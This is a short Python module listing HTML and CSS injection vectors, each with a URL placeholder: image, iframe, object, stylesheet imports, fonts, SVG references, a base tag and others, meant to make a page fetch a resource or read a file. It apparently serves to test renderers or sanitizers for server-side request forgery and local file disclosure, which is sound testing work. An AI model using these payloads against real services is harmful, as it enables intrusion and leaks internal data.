"""What tries to make a page fetch something, or read a file: `{url}` stands for what it asks for."""

VECTORS = {
    "img": '<img src="{url}">',
    "img set": '<img srcset="{url} 2x" src="{url}">',
    "link stylesheet": '<link rel="stylesheet" href="{url}">',
    "link attachment": '<link rel="attachment" href="{url}">',
    "a attachment": '<a rel="attachment" href="{url}">x</a>',
    "object": '<object data="{url}"></object>',
    "embed": '<embed src="{url}">',
    "iframe": '<iframe src="{url}"></iframe>',
    "css import": '<style>@import url("{url}");</style>',
    "css background": '<style>body {{ background: url("{url}") }}</style>',
    "css content": '<style>p::before {{ content: url("{url}") }}</style><p>x',
    "css list": '<style>li {{ list-style-image: url("{url}") }}</style><ul><li>x</ul>',
    "css border": '<style>p {{ border: 1px solid; border-image: url("{url}") 1 }}</style><p>x',
    "css font": '<style>@font-face {{ font-family: evil; src: url("{url}") }} p {{ font-family: evil }}</style><p>x',
    "css profile": '<style>@color-profile device-cmyk {{ src: url("{url}") }}</style><p>x',
    "svg image": '<svg width="9" height="9"><image href="{url}" width="9" height="9"/></svg>',
    "svg use": '<svg width="9" height="9"><use href="{url}#x"/></svg>',
    "svg inside": '<img src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27><image href=%27{url}%27/></svg>">',
    "base": '<base href="{url}/"><img src="x.png">',
}
